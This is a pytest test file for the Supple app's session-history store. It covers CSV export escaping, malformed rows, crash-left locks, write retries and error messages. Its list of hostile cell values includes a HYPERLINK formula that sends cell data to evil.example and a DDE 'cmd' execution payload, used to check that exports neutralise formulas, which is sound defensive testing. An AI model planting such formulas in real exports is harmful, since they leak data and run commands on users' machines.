"""History that could be turned against the person: formulas in an export, hand-edited
rows, a lock held by another program, a session a crash left open, and messages that
must name the real cause. Real SQLite files, real processes, the real CLI."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import sqlite3
import subprocess
import sys
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from helpers import minimal_doc, run_cli

from supple import paths
from supple.folderlock import LOCK_NAME, app_running
from supple.history import (
    HistoryError,
    HistoryWorker,
    SessionRecorder,
    export_csv,
    open_for_reading,
    open_store,
    read_csv,
)
from supple.history.session_rows import UTC
from supple.routine import routine_from_document
from supple.session import FakeClock, Outcome, Player, build_timeline

START = datetime(2024, 3, 26, 7, 0, tzinfo=UTC)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rCarriage",
    "'already quoted",
]


def _session(store, title: str, note: str = "", day: int = 0) -> int:
    sid = store.begin_session(
        routine_id=title,
        title=title,
        routine_hash="h",
        planned_seconds=600,
        steps_total=3,
        started_at=START + timedelta(days=day),
        note=note,
    )
    store.update_session(
        sid,
        active_seconds=123.5,
        steps_completed=3,
        steps_skipped=0,
        outcome=Outcome.FINISHED,
        at=START + timedelta(days=day, minutes=3),
    )
    return sid


# -- CSV cells that a spreadsheet would run -------------------------------------------------
def _check_cells(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    header, body = rows[0], rows[1:]
    assert len(body) == len(HOSTILE) + 1
    for row in body:
        cells = dict(zip(header, row, strict=True))
        for name, cell in cells.items():
            # No cell at all may start a formula: numbers and times are ours.
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    by_title = {r[header.index("title")]: r for r in body}
    for original in HOSTILE:
        cell_row = by_title["'" + original]  # exactly one ' in front, the rest as it was
        assert cell_row[header.index("routine_id")] == "'" + original
        assert cell_row[header.index("note")] == "'" + original
        assert cell_row[header.index("active_seconds")] == "123.500"
        assert cell_row[header.index("steps_total")] == "3"
    assert "Cat-cow" in by_title  # an ordinary title is left alone


def test_exported_csv_cells_never_start_a_formula(supple_home: Path, tmp_path: Path) -> None:
    opened = open_store()
    for day, title in enumerate(HOSTILE):
        _session(opened.store, title, note=title, day=day)
    _session(opened.store, "Cat-cow", note="fine", day=9)
    sessions = opened.store.all_sessions()
    opened.store.close()

    target = tmp_path / "history.csv"
    export_csv(sessions, target)
    with target.open(encoding="utf-8", newline="") as handle:  # as the csv module asks
        text = handle.read()
    _check_cells(text)
    # read_csv takes the ' off again: the export reads back as what was recorded.
    assert [s.title for s in read_csv(text)] == [*HOSTILE, "Cat-cow"]
    assert [s.note for s in read_csv(text)] == [*HOSTILE, "fine"]

    result = subprocess.run(
        [sys.executable, "-m", "supple", "history", "--csv"], capture_output=True
    )
    assert result.returncode == 0, result.stderr
    _check_cells(result.stdout.decode("utf-8"))  # bytes: no newline translation


# -- rows that are not what Supple writes -----------------------------------------------
def _odd_rows() -> None:
    opened = open_store()
    _session(opened.store, "Good", day=0)
    opened.store.close()
    conn = sqlite3.connect(paths.history_db_path())
    try:
        conn.execute("PRAGMA ignore_check_constraints = ON")  # as another program might
        insert = (
            "INSERT INTO sessions (routine_id, title, started_at, updated_at, ended_at,"
            " active_seconds, planned_seconds, steps_completed, steps_total, outcome,"
            " feel_before, feel_after) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)"
        )
        good = "2024-03-27T07:00:00.000000Z"
        conn.executemany(
            insert,
            [
                ("a", "Garbage start", "garbage", "garbage", None, 60, 60, 1, 1, None, None, None),
                # 30 February and hour 25, inside week 2024-W13's range as text
                (
                    "b",
                    "Impossible",
                    "2024-03-27T25:61:00.000000Z",
                    good,
                    None,
                    60,
                    60,
                    1,
                    1,
                    None,
                    None,
                    None,
                ),
                (
                    "c",
                    "Text number",
                    good,
                    good,
                    "never",
                    "lots",
                    "x",
                    "many",
                    "3.5",
                    "exploded",
                    "very",
                    99,
                ),
                ("d", "Number start", 12345, 67890, 3.25, "", "", "", "", None, 5, -1),
                (
                    "e",
                    b"\xff\xfe bytes",
                    "0001-01-01T00:00:00.000000Z",
                    good,
                    None,
                    1e308 * 10,
                    60,
                    1,
                    1,
                    "finished",
                    None,
                    None,
                ),
            ],
        )
        conn.commit()
    finally:
        conn.close()


def test_odd_values_in_rows_are_unknown_never_a_traceback(supple_home: Path) -> None:
    _odd_rows()
    store = open_for_reading()
    assert store is not None
    try:
        by_title = {s.title: s for s in store.all_sessions()}
    finally:
        store.close()
    assert by_title["Garbage start"].started_at is None
    assert by_title["Impossible"].started_at is None
    odd = by_title["Text number"]
    assert odd.active_seconds is None and odd.planned_seconds is None
    assert odd.steps_completed is None and odd.steps_total is None  # 3.5 steps: no
    assert odd.outcome is None and odd.ended_at is None
    assert odd.feel_before is None and odd.feel_after is None
    assert by_title["Number start"].started_at is None and by_title["Number start"].feel_before == 5
    assert by_title["\ufffd\ufffd bytes"].started_at is None  # year 1: would overflow
    assert by_title["\ufffd\ufffd bytes"].active_seconds is None  # infinity

    for args in (["--csv"], ["--json", "--week", "2024-W13"], ["--week", "2024-W13"], []):
        result = run_cli("history", *args, env={"TZ": "Europe/Berlin"})
        assert result.returncode == 0, result.stderr
        assert "Traceback" not in result.stderr
    rows = list(csv.DictReader(io.StringIO(run_cli("history", "--csv").stdout)))
    cells = {r["title"]: r for r in rows}
    assert (
        cells["Garbage start"]["started_utc"] == ""
        and cells["Garbage start"]["started_local"] == ""
    )
    assert (
        cells["Text number"]["active_seconds"] == "" and cells["Text number"]["steps_total"] == ""
    )
    assert cells["Good"]["active_seconds"] == "123.500"
    week = json.loads(run_cli("history", "--json", "--week", "2024-W13").stdout)
    listed = {s["title"]: s for d in week["days"] for s in d["sessions"]}
    assert set(listed) == {"Good", "Text number"}  # the unknown starts belong to no day
    assert listed["Text number"]["active_seconds"] is None
    assert week["minutes"] == pytest.approx(123.5 / 60, abs=0.01)


# -- a session a crash left open: interrupted, or in progress while the app runs -------------
HOLD_LOCK = """
import sys
from pathlib import Path
from supple.folderlock import FolderLock
lock = FolderLock.take(Path(sys.argv[1]))
assert lock is not None
print("locked", flush=True)
sys.stdin.readline()
"""


def _open_session() -> int:
    opened = open_store()
    try:
        sid = opened.store.begin_session(
            routine_id="walk", title="Walk", routine_hash="", planned_seconds=600, steps_total=2
        )
        opened.store.update_session(sid, active_seconds=42.0, steps_completed=1, steps_skipped=0)
    finally:
        opened.store.close()
    return sid


def _csv_outcome() -> str:
    result = run_cli("history", "--csv")
    assert result.returncode == 0, result.stderr
    (row,) = list(csv.DictReader(io.StringIO(result.stdout)))
    return row["outcome"]


def test_an_open_session_is_in_progress_only_while_the_app_holds_the_lock(
    supple_home: Path,
) -> None:
    from supple.ui.shell.single_instance import LOCK_NAME as SHELL_LOCK_NAME

    assert LOCK_NAME == SHELL_LOCK_NAME
    _open_session()
    assert _csv_outcome() == "interrupted"  # no lock: a crash left it
    holder = subprocess.Popen(
        [sys.executable, "-c", HOLD_LOCK, str(supple_home / LOCK_NAME)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
        env=dict(os.environ, QT_QPA_PLATFORM="offscreen"),
    )
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "locked"
        assert app_running(supple_home)
        assert _csv_outcome() == "in progress"
        week = json.loads(run_cli("history", "--json").stdout)
        (listed,) = [s for d in week["days"] for s in d["sessions"]]
        assert listed["outcome"] == "in progress"
    finally:
        os.kill(holder.pid, signal.SIGKILL)  # a crash: the lock file stays behind
        holder.wait()
        for stream in (holder.stdin, holder.stdout):
            if stream:
                stream.close()
    assert (supple_home / LOCK_NAME).exists()
    assert not app_running(supple_home)
    assert _csv_outcome() == "interrupted"
    week = json.loads(run_cli("history", "--json").stdout)
    (listed,) = [s for d in week["days"] for s in d["sessions"]]
    assert listed["outcome"] == "interrupted"
    # Reading changed nothing: the app closes it at its next start.
    conn = sqlite3.connect(f"file:{paths.history_db_path()}?mode=ro", uri=True)
    try:
        assert conn.execute("SELECT outcome FROM sessions").fetchone() == (None,)
    finally:
        conn.close()


@pytest.mark.parametrize(
    "content",
    [b"", b"not a pid\n", b"-5\nx\n", b"1" * 10000, b"999999999\npython\nsomewhere-else\n"],
)
def test_what_a_lock_file_holds_never_counts(supple_home: Path, content: bytes) -> None:
    # The kernel's lock is the only sign: a file left by a crash, an old QLockFile that
    # names a pid or another host, or any junk, is not a running app, and never raises.
    (supple_home / LOCK_NAME).write_bytes(content)
    assert app_running(supple_home) is False
    assert (supple_home / LOCK_NAME).read_bytes() == content  # asking changed nothing


def test_a_lock_folder_or_no_lock_is_not_a_running_app(supple_home: Path) -> None:
    assert app_running(supple_home) is False
    assert not (supple_home / LOCK_NAME).exists()  # asking made no file
    (supple_home / LOCK_NAME).mkdir()
    assert app_running(supple_home) is False


# -- the first write fails; the session is kept and written later ---------------------------
def _routine():
    return routine_from_document(
        minimal_doc(
            defaults={"lead_in": 3, "rest": 2},
            steps=[
                {"title": "One", "hold": {"seconds": 30}},
                {"title": "Two", "hold": {"seconds": 30}},
            ],
        )
    )


@pytest.mark.slow
def test_a_session_whose_first_write_meets_a_lock_is_written_once_it_goes(
    supple_home: Path,
) -> None:
    open_store().store.close()
    other = sqlite3.connect(paths.history_db_path(), isolation_level=None)
    other.execute("BEGIN IMMEDIATE")  # another program holds the write lock
    errors: list[str] = []
    worker = HistoryWorker().start()
    assert worker.wait_ready(30)
    wall = [datetime(2024, 3, 26, 7, 0, tzinfo=UTC)]
    recorder = SessionRecorder(worker, on_error=errors.append, now=lambda: wall[0])
    routine = _routine()
    timeline = build_timeline(routine)
    clock = FakeClock()
    player = Player(timeline, clock)
    player.start()
    try:
        recorder.started(routine, timeline.estimated_seconds, timeline.step_count)
        for _ in range(40):  # 20 s of the session while the lock is held
            clock.advance(0.5)
            wall[0] += timedelta(seconds=0.5)
            recorder.apply(player.poll(), player.report())
        assert worker.wait_idle(60)  # every write waited its 5 s and failed
        (error,) = errors
        assert "locked" in error and "not saved yet" in error
        assert recorder.unsaved == 1
        count = other.execute("SELECT COUNT(*) FROM sessions").fetchone()[0]
        assert count == 0  # nothing reached the file
    finally:
        other.execute("COMMIT")  # the lock goes
        other.close()
    while recorder.recording:  # the session goes on to its end; retries come with its ticks
        clock.advance(0.5)
        wall[0] += timedelta(seconds=0.5)
        recorder.apply(player.poll(), player.report())
    assert worker.wait_idle(60)
    assert recorder.unsaved == 0 and not recorder.recording
    worker.close()
    store = open_for_reading()
    assert store is not None
    try:
        (session,) = store.all_sessions()
    finally:
        store.close()
    report = player.report()
    assert session.outcome is Outcome.FINISHED
    assert session.active_seconds == pytest.approx(report.active_seconds)
    assert session.steps_completed == 2 and session.title == routine.title
    assert session.started_at == datetime(2024, 3, 26, 7, 0, tzinfo=UTC)  # when it began


def test_a_session_that_ended_unsaved_is_written_by_retry(supple_home: Path) -> None:
    """Full disk at every write of the session, space back after it ended: retry() saves it."""
    open_store().store.close()
    errors: list[str] = []
    worker = HistoryWorker().start()
    assert worker.wait_ready(30)
    wall = [datetime(2024, 3, 26, 7, 0, tzinfo=UTC)]
    recorder = SessionRecorder(worker, on_error=errors.append, now=lambda: wall[0])

    def fill(store) -> None:  # the file may not grow by a page: as a full disk
        pages = store.conn.execute("PRAGMA page_count").fetchone()[0]
        store.conn.execute(f"PRAGMA max_page_count = {pages}")
        while True:
            try:
                store.conn.execute("BEGIN IMMEDIATE")
                store.conn.execute(
                    "INSERT INTO sessions (routine_id, title, started_at, updated_at)"
                    " VALUES ('filler', ?, '2000-01-01T00:00:00.000000Z', '')",
                    ("x" * 500,),
                )
                store.conn.execute("COMMIT")
            except sqlite3.Error:
                store.conn.execute("ROLLBACK")
                return

    worker.submit(fill)
    assert worker.wait_idle(30)
    routine = _routine()
    recorder.started(routine, 60, 2)
    recorder.ended(None, Outcome.STOPPED)
    recorder.checkin_after(6, "better")
    assert worker.wait_idle(30)
    assert len(errors) == 1 and "full" in errors[0]
    assert recorder.unsaved == 1

    def space_back(store) -> None:
        store.conn.execute("PRAGMA max_page_count = 1073741823")
        store.conn.execute("DELETE FROM sessions WHERE routine_id = 'filler'")

    worker.submit(space_back)
    recorder.retry()  # too soon after the failure: nothing yet
    assert worker.wait_idle(30) and recorder.unsaved == 1
    wall[0] += timedelta(seconds=6)
    recorder.retry()
    assert worker.wait_idle(30) and recorder.unsaved == 0
    worker.close()
    store = open_for_reading()
    assert store is not None
    try:
        (session,) = store.all_sessions()
    finally:
        store.close()
    assert session.outcome is Outcome.STOPPED and session.feel_after == 6
    assert session.note == "better"


# -- messages that say the real cause ---------------------------------------------------------
def test_a_damaged_file_message_says_what_the_app_will_do(supple_home: Path) -> None:
    paths.history_db_path().write_bytes(b"not a database" * 100)
    broken = run_cli("history")
    assert broken.returncode == 1 and "Traceback" not in broken.stderr
    assert "damaged" in broken.stderr and "moves the damaged file aside" in broken.stderr


def test_a_lock_held_too_long_is_blamed_on_the_lock(supple_home: Path) -> None:
    open_store().store.close()
    other = sqlite3.connect(paths.history_db_path(), isolation_level=None)
    other.execute("BEGIN IMMEDIATE")
    try:
        opened = open_store(close_open_sessions=False)
        try:
            with pytest.raises(HistoryError) as caught:
                opened.store.delete_session(1)
        finally:
            opened.store.close()
    finally:
        other.execute("ROLLBACK")
        other.close()
    message = str(caught.value)
    assert "locked for more than 5 seconds" in message
    assert "damaged" not in message and "read-only" not in message


AS_NOBODY = """
import os, sys
# Everything the command imports, loaded first: the interpreter may live under /root.
import argparse, csv, datetime, gettext, json, locale, sqlite3, tempfile, shutil, socket, errno
import importlib, pkgutil
import supple.cli, supple.history, supple.folderlock
for package in (supple.cli, supple.history):  # every module the command may import
    for found in pkgutil.walk_packages(package.__path__, package.__name__ + "."):
        if found.name != "supple.cli.gui":  # the window's: not this command's
            importlib.import_module(found.name)
import supple.cli.main
os.setgid(65534); os.setuid(65534)
sys.exit(supple.cli.main.main(sys.argv[1:]))
"""


@pytest.mark.skipif(not hasattr(os, "geteuid"), reason="POSIX permissions")
def test_an_unreadable_file_is_not_blamed_on_the_folder(tmp_path: Path) -> None:
    import tempfile

    outer = Path(tempfile.mkdtemp(prefix="supple-perm-"))
    try:
        outer.chmod(0o755)
        home = outer / "home"
        home.mkdir()
        home.chmod(0o777)
        env = dict(os.environ, SUPPLE_HOME=str(home), HOME=str(outer))
        subprocess.run(
            [
                sys.executable,
                "-c",
                "from supple.history import open_store; open_store().store.close()",
            ],
            env=env,
            check=True,
        )
        db = home / "history.sqlite3"
        db.chmod(0o000)
        if os.geteuid() == 0:  # root reads anything: run as nobody
            argv = [sys.executable, "-c", AS_NOBODY, "history"]
        else:
            argv = [sys.executable, "-m", "supple", "history"]
        result = subprocess.run(argv, env=env, capture_output=True, text=True, cwd=str(outer))
        assert result.returncode == 1, result.stdout
        assert "no permission to read the file" in result.stderr, result.stderr
        assert "folder" not in result.stderr and "damaged" not in result.stderr
    finally:
        import shutil

        shutil.rmtree(outer, ignore_errors=True)


@pytest.mark.slow
def test_a_lock_held_while_the_app_opens_the_file_shows_history_then_writes(
    supple_home: Path,
) -> None:
    sid = _open_session()  # a crash left it open: the app's start closes it, once it can
    other = sqlite3.connect(paths.history_db_path(), isolation_level=None)
    other.execute("BEGIN IMMEDIATE")  # another program holds the write lock at the start
    notices: list[str] = []
    worker = HistoryWorker(on_notice=notices.append, reopen_seconds=0.0).start()
    try:
        assert worker.wait_ready(60)  # waited its 5 s for the lock
        (notice,) = notices
        assert "locked for more than 5 seconds" in notice and "history is shown" in notice
        titles: list[list[str]] = []
        worker.submit(lambda store: [s.title for s in store.all_sessions()], titles.append)
        assert worker.wait_idle(30) and titles == [["Walk"]]  # the history is there to see
    finally:
        other.execute("COMMIT")
        other.close()
    errors: list[str] = []
    recorder = SessionRecorder(worker, on_error=errors.append)
    recorder.started(_routine(), 60, 2)
    recorder.ended(None, Outcome.STOPPED)
    assert worker.wait_idle(30)
    worker.close()
    assert errors == [] and recorder.unsaved == 0
    assert notices[-1].startswith("The history file can be written again")
    store = open_for_reading()
    assert store is not None
    try:
        by_id = {s.id: s for s in store.all_sessions()}
    finally:
        store.close()
    assert by_id[sid].outcome is Outcome.INTERRUPTED  # closed by the start that got through
    (new,) = [s for s in by_id.values() if s.id != sid]
    assert new.outcome is Outcome.STOPPED
